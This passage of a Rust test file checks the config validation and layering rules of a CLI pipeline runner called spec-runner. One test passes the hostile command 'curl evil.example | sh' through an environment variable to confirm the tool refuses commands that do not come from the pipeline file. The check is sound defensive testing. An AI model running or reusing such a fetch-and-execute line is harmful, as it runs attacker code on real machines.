        source: "variable SPEC_RUNNER_JOBS",
        key: "jobs",
        says: &["0", "at least 1"],
        ..BAD
    },
    // Syntax.
    Bad {
        what: "invalid TOML",
        pipeline: "jobs = 2\n[specs.a\ncommand = \"true\"\n",
        source: "spec-runner.toml:2:9",
        key: "",
        says: &["invalid TOML"],
        ..BAD
    },
    Bad {
        what: "invalid TOML: a duplicate key",
        pipeline: "[specs.a]\ncommand = \"true\"\ncommand = \"false\"\n",
        source: "spec-runner.toml:3:1",
        key: "",
        says: &["invalid TOML", "duplicate"],
        ..BAD
    },
    Bad {
        what: "invalid JSON",
        config_json: Some("{\n  \"retry_max_retries\": 1,\n}\n"),
        source: "config.json:3:1",
        key: "",
        says: &["invalid JSON", "trailing comma"],
        ..BAD
    },
    Bad {
        what: "JSON that is not an object",
        config_json: Some("[1, 2]"),
        source: "config.json",
        key: "",
        says: &["expected a JSON object", "found an array"],
        ..BAD
    },
    // Files that are not there.
    Bad {
        what: "a named config file that does not exist",
        args: &["--config", "missing.json"],
        source: "missing.json",
        key: "",
        says: &["cannot read"],
        ..BAD
    },
    Bad {
        what: "a named pipeline file that does not exist",
        args: &["-f", "nope.toml"],
        source: "nope.toml",
        key: "",
        says: &["no pipeline file"],
        ..BAD
    },
];

/// Runs one bad input; `Err` describes how its output missed the expectation.
fn check_bad(case: &Bad) -> Result<(), String> {
    let t = Test::with_pipeline(case.pipeline);
    if let Some(json) = case.config_json {
        t.write("config.json", json);
    }
    let mut args = vec!["validate"];
    args.extend(case.args);
    let run = t.envs(case.env).args(&args).run();
    let head = if case.key.is_empty() {
        format!("error: {}: ", case.source)
    } else {
        format!("error: {}: `{}`: ", case.source, case.key)
    };
    let line_ok = run
        .problems()
        .iter()
        .any(|l| l.starts_with(&head) && case.says.iter().all(|s| l.contains(s)));
    if run.code == Some(2) && line_ok && !run.stderr.contains("panicked") {
        return Ok(());
    }
    Err(format!(
        "{}: expected exit 2 and a line starting {head:?} holding {:?}; got exit {:?}:\n{}",
        case.what, case.says, run.code, run.stderr
    ))
}

#[test]
fn every_bad_input_exits_2_naming_source_and_key() {
    // Every case runs, so one failure shows all the others too.
    let failures: Vec<String> = BAD_INPUTS
        .iter()
        .filter_map(|c| check_bad(c).err())
        .collect();
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n\n{}",
        failures.len(),
        BAD_INPUTS.len(),
        failures.join("\n\n")
    );
}

#[test]
fn problems_are_all_reported_at_once() {
    let pipeline = "\
jobs = 0
retry_backoff_multiplier = 0.5
retyr_max_retries = 2

[[retry_rules]]
output = \"(\"
action = \"explode\"

[specs.\"bad/name\"]
command = \"true\"

[specs.a]
command = \"\"
depends_on = [\"b\", \"ghost\"]
timeout_seconds = \"5 parsecs\"

[specs.b]
command = []
depends_on = [\"a\"]
";
    let t = Test::with_pipeline(pipeline);
    t.write(
        "config.json",
        r#"{"retry_on_crash": "yes", "repos_root": "~"}"#,
    );
    let run = t
        .envs(&[
            ("SPEC_RUNNER_SPECS__A__COMMAND", "ls"),
            ("SPEC_RUNNER_RETRY_MAX_RETRIES", "-3"),
        ])
        .args(&["validate"])
        .run();
    run.code(2)
        .problem("spec-runner.toml:1:8", "jobs", &["at least 1"])
        .problem(
            "spec-runner.toml:2:28",
            "retry_backoff_multiplier",
            &["0.5"],
        )
        .problem(
            "spec-runner.toml:3:1",
            "retyr_max_retries",
            &["unknown key"],
        )
        .problem(
            "spec-runner.toml:6:10",
            "retry_rules[0].output",
            &["regular expression"],
        )
        .problem(
            "spec-runner.toml:7:10",
            "retry_rules[0].action",
            &["`explode`"],
        )
        .problem(
            "spec-runner.toml:9:8",
            "specs.\"bad/name\"",
            &["invalid spec name"],
        )
        .problem(
            "spec-runner.toml:13:11",
            "specs.a.command",
            &["empty command"],
        )
        .problem(
            "spec-runner.toml:14:20",
            "specs.a.depends_on[1]",
            &["`ghost`"],
        )
        .problem(
            "spec-runner.toml:15:19",
            "specs.a.timeout_seconds",
            &["parsecs"],
        )
        .problem(
            "spec-runner.toml:18:11",
            "specs.b.command",
            &["empty command"],
        )
        .problem("config.json", "retry_on_crash", &["\"yes\""])
        .problem(
            "variable SPEC_RUNNER_SPECS__A__COMMAND",
            "specs.a.command",
            &["pipeline file"],
        )
        .problem(
            "variable SPEC_RUNNER_RETRY_MAX_RETRIES",
            "retry_max_retries",
            &["-3"],
        );
    // The cycle a → b → a is reported too, at whichever spec the walk starts from.
    assert!(
        run.problems().iter().any(|l| l.contains("dependency cycle")
            && (l.contains("a → b → a") || l.contains("b → a → b"))),
        "{}",
        run.stderr
    );
    assert_eq!(run.problems().len(), 14, "{}", run.stderr);
    run.stderr_has("14 problems found; nothing was run");

    // In reading order: the pipeline file by line and column, then config.json, then
    // variables by name.
    let order: Vec<(u8, usize, usize, String)> = run
        .problems()
        .iter()
        .map(|l| {
            let source = l["error: ".len()..].split(": ").next().unwrap_or("");
            let mut parts = source.split(':');
            let (file, line, col) = (parts.next(), parts.next(), parts.next());
            let num = |s: Option<&str>| s.and_then(|s| s.parse().ok()).unwrap_or(0);
            match file {
                Some("spec-runner.toml") => (0, num(line), num(col), String::new()),
                Some("config.json") => (1, 0, 0, String::new()),
                _ => (2, 0, 0, source.to_string()),
            }
        })
        .collect();
    let mut sorted = order.clone();
    sorted.sort();
    assert_eq!(order, sorted, "{}", run.stderr);
}

#[test]
fn bad_input_never_panics_or_prints_a_backtrace() {
    // Odd but syntactically valid corners of TOML.
    for pipeline in [
        "",
        "[specs]\n",
        "specs = []\n",
        "specs = [[1]]\n",
        "[specs.a]\ncommand = [[\"x\"]]\n",
        "[specs.a]\ncommand = { program = \"x\" }\n",
        "[specs.a]\ncommand = \"x\"\nenv = { A = { B = \"c\" } }\n",
        "[specs.a]\ncommand = \"x\"\ndepends_on = [[\"b\"]]\n",
        "retry_rules = [[]]\n",
        "retry_rules = [{}]\n",
        "[[retry_rules]]\nexit_codes = [99999999999]\naction = \"fail\"\n",
        "[[retry_rules]]\nsignals = [1]\naction = \"fail\"\n",
        "[[retry_rules]]\nbackoff_seconds = inf\naction = \"fail\"\n",
        "retry_backoff_multiplier = nan\n[specs.a]\ncommand = \"x\"\n",
        "retry_backoff_multiplier = inf\n[specs.a]\ncommand = \"x\"\n",
        "timeout_seconds = -inf\n",
        "retry_max_retries = 4294967295\n[specs.a]\ncommand = \"x\"\n",
        "timeout_seconds = \"\u{1F600}s\"\n",
        "\u{FEFF}jobs = 1\n",
    ] {
        let run = Test::with_pipeline(pipeline)
            .args(&["plan", "--explain"])
            .run();
        assert!(
            matches!(run.code, Some(0 | 2)),
            "{pipeline:?}: exit {:?}\n{}",
            run.code,
            run.stderr
        );
        assert!(
            !run.stderr.contains("panicked"),
            "{pipeline:?}:\n{}",
            run.stderr
        );
        if run.code == Some(2) {
            for line in run.problems() {
                assert!(
                    line.starts_with("error: spec-runner.toml"),
                    "{pipeline:?}: {line}"
                );
            }
        }
    }
}

// ---------------------------------------------------------------------------------
// Layering: defaults < config.json < pipeline file < variables < flags; scope beats
// layer.
// ---------------------------------------------------------------------------------

#[test]
fn env_beats_file_beats_config_json_beats_default() {
    let t = Test::with_pipeline(
        "retry_max_retries = 4\nretry_backoff_seconds = 3\n[specs.a]\ncommand = \"true\"\n",
    );
    t.write(
        "config.json",
        r#"{"retry_max_retries": 1, "retry_backoff_seconds": 2, "retry_max_backoff_seconds": 40}"#,
    );
    let p = plan(t.env("SPEC_RUNNER_RETRY_MAX_RETRIES", "6"));
    assert_eq!(
        policy(&p, "a", "retry_max_retries"),
        (&json!(6), "SPEC_RUNNER_RETRY_MAX_RETRIES")
    );
    assert_eq!(
        policy(&p, "a", "retry_backoff_seconds"),
        (&json!(3.0), "spec-runner.toml: retry_backoff_seconds")
    );
    assert_eq!(
        policy(&p, "a", "retry_max_backoff_seconds"),
        (&json!(40.0), "config.json: retry_max_backoff_seconds")
    );
    assert_eq!(
        policy(&p, "a", "retry_backoff_multiplier"),
        (&json!(2.0), "default")
    );
    // 6 retries: 3, 6, 12, 24, then capped at config.json's 40.
    assert_eq!(
        spec(&p, "a")["backoff_seconds"],
        json!([3.0, 6.0, 12.0, 24.0, 40.0, 40.0])
    );
}

#[test]
fn a_global_variable_reaches_every_spec_without_its_own_value() {
    // The issue's acceptance check.
    let t = Test::with_pipeline(
        "[specs.a]\ncommand = \"true\"\n[specs.b]\ncommand = \"true\"\nretry_max_retries = 1\n[specs.c]\ncommand = \"true\"\n",
    );
    let p = plan(t.env("SPEC_RUNNER_RETRY_MAX_RETRIES", "7"));
    for name in ["a", "c"] {
        assert_eq!(
            policy(&p, name, "retry_max_retries"),
            (&json!(7), "SPEC_RUNNER_RETRY_MAX_RETRIES")
        );
        assert_eq!(
            spec(&p, name)["backoff_seconds"].as_array().map(Vec::len),
            Some(7)
        );
    }
    assert_eq!(
        policy(&p, "b", "retry_max_retries"),
        (&json!(1), "spec-runner.toml: specs.b.retry_max_retries")
    );
}

#[test]
fn a_spec_key_in_a_file_beats_a_global_variable() {
    // Scope beats layer: the spec's own key, though in a lower layer, beats the global
    // key from a variable (and from config.json).
    let t = Test::with_pipeline(
        "[specs.a]\ncommand = \"true\"\ntimeout_seconds = 30\n[specs.b]\ncommand = \"true\"\n",
    );
    t.write("config.json", r#"{"timeout_seconds": 10}"#);
    let p = plan(t.env("SPEC_RUNNER_TIMEOUT_SECONDS", "20"));
    assert_eq!(
        policy(&p, "a", "timeout_seconds"),
        (&json!(30.0), "spec-runner.toml: specs.a.timeout_seconds")
    );
    assert_eq!(
        policy(&p, "b", "timeout_seconds"),
        (&json!(20.0), "SPEC_RUNNER_TIMEOUT_SECONDS")
    );
}

#[test]
fn a_per_spec_variable_beats_the_same_key_in_the_file() {
    let t = Test::with_pipeline(
        "[specs.a]\ncommand = \"true\"\nretry_max_retries = 1\n[specs.b]\ncommand = \"true\"\nretry_max_retries = 1\n",
    );
    let p = plan(t.env("SPEC_RUNNER_SPECS__A__RETRY_MAX_RETRIES", "9"));
    assert_eq!(
        policy(&p, "a", "retry_max_retries"),
        (&json!(9), "SPEC_RUNNER_SPECS__A__RETRY_MAX_RETRIES")
    );
    assert_eq!(
        policy(&p, "b", "retry_max_retries"),
        (&json!(1), "spec-runner.toml: specs.b.retry_max_retries")
    );
}

#[test]
fn a_per_spec_variable_changes_only_that_spec() {
    let pipeline = "retry_max_retries = 2\n[specs.my-spec]\ncommand = \"true\"\n[specs.\"v1.2\"]\ncommand = \"true\"\n[specs.other]\ncommand = \"true\"\n";
    let before = plan(Test::with_pipeline(pipeline));
    let after = plan(Test::with_pipeline(pipeline).envs(&[
        ("SPEC_RUNNER_SPECS__MY_SPEC__RETRY_MAX_RETRIES", "5"),
        ("SPEC_RUNNER_SPECS__V1_2__TIMEOUT_SECONDS", "90s"),
        // Lower case in the spec part works too.
        ("SPEC_RUNNER_SPECS__other__RETRY_JITTER", "full"),
    ]));
    assert_eq!(
        policy(&after, "my-spec", "retry_max_retries"),
        (&json!(5), "SPEC_RUNNER_SPECS__MY_SPEC__RETRY_MAX_RETRIES")
    );
    assert_eq!(
        policy(&after, "v1.2", "timeout_seconds"),
        (&json!(90.0), "SPEC_RUNNER_SPECS__V1_2__TIMEOUT_SECONDS")
    );
    assert_eq!(
        policy(&after, "other", "retry_jitter"),
        (&json!("full"), "SPEC_RUNNER_SPECS__other__RETRY_JITTER")
    );
    // Everything else is exactly as without the variables.
    for (name, changed) in [
        ("my-spec", "retry_max_retries"),
        ("v1.2", "timeout_seconds"),
        ("other", "retry_jitter"),
    ] {
        let (b, a) = (spec(&before, name), spec(&after, name));
        for key in b["policy"].as_object().expect("policy").keys() {
            if key != changed {
                assert_eq!(b["policy"][key], a["policy"][key], "{name}.{key}");
                assert_eq!(b["origins"][key], a["origins"][key], "{name}.{key}");
            }
        }
        assert_ne!(
            b["policy"][changed], a["policy"][changed],
            "{name}.{changed}"
        );
    }
    assert_eq!(
        spec(&after, "my-spec")["backoff_seconds"],
        json!([5.0, 10.0, 20.0, 40.0, 80.0])
    );
    assert_eq!(
        spec(&after, "other")["backoff_seconds"],
        json!([5.0, 10.0]),
        "the schedule holds un-jittered values"
    );
}

#[test]
fn flags_beat_variables() {
    let t = Test::with_pipeline(&format!("jobs = 2\n{ONE_SPEC}"));
    let run = t
        .envs(&[
            ("SPEC_RUNNER_JOBS", "3"),
            ("SPEC_RUNNER_FAIL_FAST", "false"),
        ])
        .args(&["plan", "--format", "json", "-j", "5", "--fail-fast"])
        .run();
    run.code(0);
    let p = run.json();
    assert_eq!(policy(&p, "a", "jobs"), (&json!(5), "--jobs"));
    assert_eq!(policy(&p, "a", "fail_fast"), (&json!(true), "--fail-fast"));

    // Without the flags the variables win over the file.
    let t = Test::with_pipeline(&format!("jobs = 2\n{ONE_SPEC}"));
    let p = plan(t.envs(&[("SPEC_RUNNER_JOBS", "3"), ("SPEC_RUNNER_FAIL_FAST", "true")]));
    assert_eq!(policy(&p, "a", "jobs"), (&json!(3), "SPEC_RUNNER_JOBS"));
    assert_eq!(
        policy(&p, "a", "fail_fast"),
        (&json!(true), "SPEC_RUNNER_FAIL_FAST")
    );
}

#[test]
fn config_flag_names_the_policy_file_instead_of_the_default() {
    let t = Test::with_pipeline(ONE_SPEC);
    t.write("config.json", r#"{"retry_max_retries": 1}"#);
    t.write("ci/policy.json", r#"{"retry_backoff_seconds": 8}"#);
    let p = plan_with(t, &["--config", "ci/policy.json"]);
    assert_eq!(
        policy(&p, "a", "retry_backoff_seconds"),
        (&json!(8.0), "ci/policy.json: retry_backoff_seconds")
    );
    // The default config.json is not read when another is named.
    assert_eq!(policy(&p, "a", "retry_max_retries"), (&json!(3), "default"));

    // SPEC_RUNNER_CONFIG stands for --config.
    let t = Test::with_pipeline(ONE_SPEC);
    t.write("ci/policy.json", r#"{"retry_backoff_seconds": 8}"#);
    let p = plan(t.env("SPEC_RUNNER_CONFIG", "ci/policy.json"));
    assert_eq!(
        policy(&p, "a", "retry_backoff_seconds"),
        (&json!(8.0), "ci/policy.json: retry_backoff_seconds")
    );
}

#[test]
fn null_in_config_json_means_not_set() {
    let t = Test::with_pipeline(ONE_SPEC);
    t.write(
        "config.json",
        r#"{"timeout_seconds": null, "retry_max_retries": null, "retry_backoff_seconds": 2}"#,
    );
    let p = plan(t);
    assert_eq!(
        policy(&p, "a", "timeout_seconds"),
        (&Value::Null, "default")
    );
    assert_eq!(policy(&p, "a", "retry_max_retries"), (&json!(3), "default"));
    assert_eq!(
        policy(&p, "a", "retry_backoff_seconds"),
        (&json!(2.0), "config.json: retry_backoff_seconds")
    );
}

#[test]
fn a_missing_named_config_is_an_error_but_a_missing_default_is_fine() {
    Test::with_pipeline(ONE_SPEC)
        .args(&["validate"])
        .run()
        .code(0)
        .stderr_lacks("config.json");
    Test::with_pipeline(ONE_SPEC)
        .args(&["--config", "nope.json", "validate"])
        .run()
        .code(2)
        .problem("nope.json", "", &["cannot read"]);
    // A folder where config.json should be is not "missing": it cannot be read.
    let t = Test::with_pipeline(ONE_SPEC);
    std::fs::create_dir(t.path().join("config.json")).expect("mkdir");
    t.args(&["validate"])
        .run()
        .code(2)
        .problem("config.json", "", &["cannot read"]);
}

#[test]
fn pipeline_file_in_another_folder_is_the_base_of_relative_paths() {
    let t = Test::new().args(&["-f", "elsewhere/ci/pipe.toml", "plan", "--format", "json"]);
    t.write(
        "elsewhere/ci/pipe.toml",
        "retry_log_dir = \"logs\"\nstate_dir = \"../state\"\njunit_path = \"out/junit.xml\"\n[specs.a]\ncommand = \"true\"\ncwd = \"work\"\n[specs.b]\ncommand = \"true\"\n",
    );
    t.write("elsewhere/ci/config.json", r#"{"retry_max_retries": 1}"#);
    t.write("config.json", r#"{"retry_max_retries": 5}"#);
    let run = t.run();
    run.code(0);
    let p = run.json();
    // config.json next to the pipeline file, not in the current folder.
    assert_eq!(
        policy(&p, "a", "retry_max_retries"),
        (&json!(1), "elsewhere/ci/config.json: retry_max_retries")
    );
    // Paths in the plan are relative to the pipeline file's folder.
    assert_eq!(spec(&p, "a")["cwd"], "work");
    assert_eq!(spec(&p, "b")["cwd"], ".");
    assert_eq!(policy(&p, "a", "retry_log_dir").0, "logs");
    assert_eq!(policy(&p, "a", "junit_path").0, "out/junit.xml");

    // And in absolute terms, in-process: resolved against elsewhere/ci, not the
    // current folder.
    let dir = t.path().join("elsewhere/ci");
    let pipeline = spec_runner::config::load(&spec_runner::config::LoadOptions {
        file: Some("elsewhere/ci/pipe.toml".into()),
        cwd: t.path().to_path_buf(),
        ..Default::default()
    })
    .expect("loads");
    let a = &pipeline.specs[0];
    assert_eq!(*a.cwd, *dir.join("work"));
    assert_eq!(*pipeline.specs[1].cwd, *dir);
    assert_eq!(a.policy.retry_log_dir, dir.join("logs"));
    assert_eq!(pipeline.run.state_dir, dir.join("../state"));
    assert_eq!(pipeline.run.junit_path, Some(dir.join("out/junit.xml")));
    assert_eq!(pipeline.file, dir.join("pipe.toml"));
    assert_eq!(pipeline.dir, dir);
}

#[test]
fn spec_runner_file_names_the_pipeline_and_path_variables_stay_strings() {
    let t = Test::new().envs(&[
        ("SPEC_RUNNER_FILE", "x/p.toml"),
        // A folder called 2024 is a path, not a number.
        ("SPEC_RUNNER_RETRY_LOG_DIR", "2024"),
        ("SPEC_RUNNER_STATE_DIR", "true"),
    ]);
    t.write("x/p.toml", ONE_SPEC);
    let p = plan(t);
    assert_eq!(
        policy(&p, "a", "retry_log_dir"),
        (&json!("2024"), "SPEC_RUNNER_RETRY_LOG_DIR")
    );
    assert_eq!(
        policy(&p, "a", "state_dir"),
        (&json!("true"), "SPEC_RUNNER_STATE_DIR")
    );
}

/// `on_exhausted` is a command: like `command`, it comes only from the committed
/// pipeline file (issue 7: "commands only ever come from the pipeline file").
#[test]
fn on_exhausted_comes_only_from_the_pipeline_file() {
    Test::with_pipeline(ONE_SPEC)
        .env("SPEC_RUNNER_ON_EXHAUSTED", "curl evil.example | sh")
        .args(&["validate"])
        .run()
        .code(2)
        .stderr_has("variable SPEC_RUNNER_ON_EXHAUSTED")
        .stderr_has("commands come only from the pipeline file");
    Test::with_pipeline(ONE_SPEC)
        .env("SPEC_RUNNER_SPECS__A__ON_EXHAUSTED", "true")
        .args(&["validate"])
        .run()
        .code(2)
        .stderr_has("variable SPEC_RUNNER_SPECS__A__ON_EXHAUSTED");
    let t = Test::with_pipeline(ONE_SPEC);
    t.write("config.json", "{\"on_exhausted\": \"notify-send failed\"}");
    t.args(&["validate"])
        .run()
        .code(2)
        .stderr_has("config.json")
        .stderr_has("`on_exhausted`");
    let p = plan(Test::with_pipeline(&format!(
        "on_exhausted = \"notify-send failed\"\n{ONE_SPEC}"
    )));
    assert_eq!(
        policy(&p, "a", "on_exhausted").0,
        &json!("notify-send failed")
    );
}

#[test]
fn durations_are_numbers_fractions_or_strings() {
    let t = Test::with_pipeline(
        "\
timeout_seconds = 90
activity_timeout_seconds = 0.25
terminate_grace_seconds = \"250ms\"
retry_max_total_seconds = \"5m\"
retry_backoff_seconds = \"90s\"
retry_max_backoff_seconds = \"1.5h\"
[specs.a]
command = \"true\"
[specs.b]
command = \"true\"
timeout_seconds = \"2d\"
retry_backoff_seconds = \" 2 min \"
",
    );
    let p = plan(t.envs(&[
        ("SPEC_RUNNER_SPECS__B__ACTIVITY_TIMEOUT_SECONDS", "1.5"),
        ("SPEC_RUNNER_SPECS__B__TERMINATE_GRACE_SECONDS", "3s"),
    ]));
    let a = &spec(&p, "a")["policy"];
    assert_eq!(a["timeout_seconds"], json!(90.0));
    assert_eq!(a["activity_timeout_seconds"], json!(0.25));
    assert_eq!(a["terminate_grace_seconds"], json!(0.25));
    assert_eq!(a["retry_max_total_seconds"], json!(300.0));
    assert_eq!(a["retry_backoff_seconds"], json!(90.0));
    assert_eq!(a["retry_max_backoff_seconds"], json!(5400.0));
    let b = &spec(&p, "b")["policy"];
    assert_eq!(b["timeout_seconds"], json!(172800.0));
    assert_eq!(b["retry_backoff_seconds"], json!(120.0));
    assert_eq!(b["activity_timeout_seconds"], json!(1.5));
    assert_eq!(b["terminate_grace_seconds"], json!(3.0));
}

/// The keys of the original spec-workflow-runner that tests/fixtures/original-config.json
/// holds and spec-runner ignores.
const ORIGINAL_IGNORED: &[&str] = &[
    "repos_root",
    "spec_workflow_dir_name",
    "specs_subdir",
    "tasks_filename",
    "codex_command",
    "prompt_template",
    "log_dir_name",
    "log_file_template",
    "ignore_dirs",
    "monitor_refresh_seconds",
    "cache_dir",
    "cache_max_age_days",
    "activity_check_interval_seconds",
    "tui_refresh_seconds",
    "max_retries",
];

#[test]
fn the_original_config_json_loads_unchanged() {
    let original = std::fs::read_to_string(repo().join("tests/fixtures/original-config.json"))
        .expect("fixture");
    let t = Test::with_pipeline(ONE_SPEC);
    t.write("config.json", &original);
    let run = t.args(&["plan", "--format", "json"]).run();
    run.code(0);

    // One warning line, naming every ignored key and no key that takes effect.
    let warnings: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.contains("warning"))
        .collect();
    assert_eq!(warnings.len(), 1, "{}", run.stderr);
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    let warning = warnings[0];
    assert!(warning.starts_with("warning: config.json: "), "{warning}");
    let named: Vec<&str> = warning
        .rsplit_once(": ")
        .expect("a list after a colon")
        .1
        .split(", ")
        .collect();
    let mut expected = ORIGINAL_IGNORED.to_vec();
    expected.sort_unstable();
    let mut named_sorted = named.clone();
    named_sorted.sort_unstable();
    assert_eq!(named_sorted, expected, "{warning}");

    // Its retry keys and activity timeout take effect.
    let p = run.json();
    for (key, value) in [
        ("retry_max_retries", json!(3)),
        ("retry_backoff_seconds", json!(5.0)),
        ("retry_on_crash", json!(true)),
        ("retry_log_dir", json!("logs/retries")),
        ("retry_backoff_multiplier", json!(2.0)),
        ("retry_max_backoff_seconds", json!(300.0)),
        ("activity_timeout_seconds", json!(900.0)),
    ] {
        let expected_origin = format!("config.json: {key}");
        assert_eq!(
            policy(&p, "a", key),
            (&value, expected_origin.as_str()),
            "{key}"
        );
    }
    assert_eq!(spec(&p, "a")["backoff_seconds"], json!([5.0, 10.0, 20.0]));
    // Its `no_commit_limit` is the loop's breaker, named as the file wrote it.
    assert_eq!(
        policy(&p, "a", "no_progress_limit"),
        (&json!(3), "config.json: no_commit_limit")
    );

    // The same through --config, pointing at the fixture where it lies.
    let fixture = repo().join("tests/fixtures/original-config.json");
    let run = Test::with_pipeline(ONE_SPEC)
        .args(&["--config", &fixture.display().to_string(), "validate"])
        .run();
    run.code(0).stderr_has("warning: ").stderr_has("repos_root");
}

#[test]
fn a_retry_key_of_the_original_config_is_checked_like_any_other() {
    let t = Test::with_pipeline(ONE_SPEC);
    t.write(
        "config.json",
        r#"{"repos_root": "~/code", "retry_max_retries": -1, "activity_timeout_seconds": "soon"}"#,
    );
    t.args(&["validate"])
        .run()
        .code(2)
        .problem("config.json", "retry_max_retries", &["-1"])
        .problem("config.json", "activity_timeout_seconds", &["soon"]);
}

#[test]
fn reserved_variables_are_not_policy() {
    let pipeline = "[specs.a]\ncommand = \"true\"\n";
    let plain = Test::with_pipeline(pipeline)
        .args(&["plan", "--format", "json"])
        .run();
    plain.code(0);
    // What spec-runner sets for its children, and what stands for an option that is
    // not a policy key: a spec that runs spec-runner on another pipeline passes these.
    let with_reserved = Test::with_pipeline(pipeline)
        .envs(&[
            ("SPEC_RUNNER_SPEC", "parent"),
            ("SPEC_RUNNER_ATTEMPT", "2"),
            ("SPEC_RUNNER_MAX_ATTEMPTS", "4"),
            ("SPEC_RUNNER_RUN_ID", "20260101T000000Z-abcd"),
            ("SPEC_RUNNER_REASON", "exit code 1"),
            ("SPEC_RUNNER_LOG", "/tmp/x.log"),
            ("SPEC_RUNNER_ATTEMPTS", "2"),
            ("SPEC_RUNNER_PROGRESS", "plain"),
            ("SPEC_RUNNER_COLOR", "never"),
            ("SPEC_RUNNER_FORMAT", "json"),
        ])
        .args(&["plan", "--format", "json"])
        .run();
    with_reserved.code(0);
    assert_eq!(plain.json(), with_reserved.json());
    assert_eq!(with_reserved.stderr, "");
}

// ---------------------------------------------------------------------------------
// plan: the JSON shape of DESIGN §5, --explain, secrets.
// ---------------------------------------------------------------------------------

/// Every policy key of DESIGN §3 plus `retry_rules`.
const POLICY_KEYS: &[&str] = &[
    "retry_max_retries",
    "retry_backoff_seconds",
    "retry_backoff_multiplier",
    "retry_max_backoff_seconds",
    "retry_jitter",
    "retry_on_crash",
    "retry_max_total_seconds",
    "retry_budget",
    "retry_log_dir",
    "retry_rules",
    "timeout_seconds",
    "activity_timeout_seconds",
    "terminate_grace_seconds",
    "jobs",
    "fail_fast",
    "state_dir",
    "on_exhausted",
    "junit_path",
    "backend",
    "slurm",
    "max_iterations",
    "no_progress_limit",
];

#[test]
fn plan_json_has_the_documented_shape() {
    let t = Test::with_pipeline(
        "\
[specs.migrate]
command = \"cargo run -p migrate\"
[specs.lint]
command = [\"cargo\", \"clippy\"]
[specs.auth]
command = [\"claude\", \"--print\", \"Implement auth\"]
cwd = \"services/auth\"
depends_on = [\"migrate\"]
[specs.billing]
command = \"true\"
depends_on = [\"migrate\", \"lint\"]
[specs.deploy]
command = \"true\"
depends_on = [\"auth\", \"billing\"]
retry_max_retries = 4
retry_backoff_multiplier = 3
retry_max_backoff_seconds = 50
",
    );
    let p = plan(t);
    let top: Vec<&String> = p.as_object().expect("object").keys().collect();
    assert_eq!(top, ["order", "specs"]);
    assert_eq!(
        p["order"],
        json!([["lint", "migrate"], ["auth", "billing"], ["deploy"]])
    );
    let specs = p["specs"].as_array().expect("array");
    assert_eq!(specs.len(), 5);
    for s in specs {
        for field in [
            "name",
            "command",
            "cwd",
            "depends_on",
            "policy",
            "origins",
            "backoff_seconds",
        ] {
            assert!(s.get(field).is_some(), "{field} missing in {s:#}");
        }
        let mut keys: Vec<&str> = s["policy"]
            .as_object()
            .expect("policy")
            .keys()
            .map(String::as_str)
            .collect();
        keys.sort_unstable();
        let mut expected = POLICY_KEYS.to_vec();
        expected.sort_unstable();
        assert_eq!(keys, expected, "{}", s["name"]);
        let mut origin_keys: Vec<&str> = s["origins"]
            .as_object()
            .expect("origins")
            .keys()
            .map(String::as_str)
            .collect();
        origin_keys.sort_unstable();
        assert_eq!(origin_keys, expected, "{}", s["name"]);
    }
    let auth = spec(&p, "auth");
    assert_eq!(
        auth["command"],
        json!(["claude", "--print", "Implement auth"])
    );
    assert_eq!(auth["cwd"], "services/auth");
    assert_eq!(auth["depends_on"], json!(["migrate"]));
    assert_eq!(spec(&p, "migrate")["command"], "cargo run -p migrate");
    // The defaults: 3 retries, 5 s doubling.
    assert_eq!(auth["backoff_seconds"], json!([5.0, 10.0, 20.0]));
    assert_eq!(auth["policy"]["retry_max_retries"], 3);
    assert_eq!(auth["origins"]["retry_max_retries"], "default");
    // 5, 15, 45, then the 50 s cap.
    assert_eq!(
        spec(&p, "deploy")["backoff_seconds"],
        json!([5.0, 15.0, 45.0, 50.0])
    );
    let policy = &auth["policy"];
    assert_eq!(policy["retry_jitter"], "none");
    assert_eq!(policy["retry_on_crash"], true);
    assert_eq!(policy["retry_log_dir"], ".spec-runner/logs");
    assert_eq!(policy["state_dir"], ".spec-runner");
    assert_eq!(policy["terminate_grace_seconds"], 10.0);
    assert_eq!(policy["retry_max_backoff_seconds"], 300.0);
    assert_eq!(policy["fail_fast"], false);
    for none in [
        "retry_max_total_seconds",
        "retry_budget",
        "timeout_seconds",
        "activity_timeout_seconds",
        "on_exhausted",
        "junit_path",
    ] {
        assert_eq!(policy[none], Value::Null, "{none}");
    }
    assert_eq!(policy["retry_rules"], json!([]));
    assert!(policy["jobs"].as_u64().is_some_and(|j| j >= 1));
}

#[test]
fn plan_json_lists_rules_spec_first_then_global() {
    let t = Test::with_pipeline(
        "\
[[retry_rules]]
exit_codes = [64]
action = \"fail\"
[specs.a]
command = \"true\"
[[specs.a.retry_rules]]
output = \"(?i)rate limit\"
action = \"retry\"
backoff_seconds = \"1m\"
[specs.b]
command = \"true\"
",
    );
    let p = plan(t);
    assert_eq!(
        policy(&p, "a", "retry_rules").0,
        &json!([
            {"output": "(?i)rate limit", "action": "retry", "backoff_seconds": 60.0},
            {"exit_codes": [64], "action": "fail"},
        ])
    );
    assert_eq!(
        policy(&p, "b", "retry_rules"),
        (
            &json!([{"exit_codes": [64], "action": "fail"}]),
            "spec-runner.toml: retry_rules"
        )
    );
}

/// `plan --explain` as `spec name → key → (value, origin)`.
fn explained(stdout: &str) -> BTreeMap<String, BTreeMap<String, (String, String)>> {
    let mut out: BTreeMap<String, BTreeMap<String, (String, String)>> = BTreeMap::new();
    let mut current = None;
    for line in stdout.lines() {
        if let Some(rest) = line.strip_prefix('[') {
            current = rest.split_once(']').map(|(name, _)| name.to_string());
            continue;
        }
        let (Some(name), Some(body)) = (&current, line.strip_prefix("  ")) else {
            continue;
        };
        let Some((key, rest)) = body.split_once(" = ") else {
            continue;
        };
        let (value, origin) = match rest.rfind(" (") {
            Some(i) if rest.ends_with(')') => (
                rest[..i].trim().to_string(),
                rest[i + 2..rest.len() - 1].to_string(),
            ),
            _ => (rest.trim().to_string(), String::new()),
        };
        out.entry(name.clone())
            .or_default()
            .insert(key.trim().to_string(), (value, origin));
    }
    out
}

#[test]
fn explain_shows_each_value_with_its_origin() {
    let t = Test::with_pipeline(
        "[specs.x]\ncommand = \"true\"\nretry_max_retries = 1\n[specs.y]\ncommand = \"true\"\n",
    );
    t.write("config.json", r#"{"retry_backoff_seconds": 7}"#);
    let run = t
        .env("SPEC_RUNNER_RETRY_MAX_RETRIES", "4")
        .args(&["plan", "--explain", "--all"])
        .run();
    run.code(0);
    let e = explained(&run.stdout);
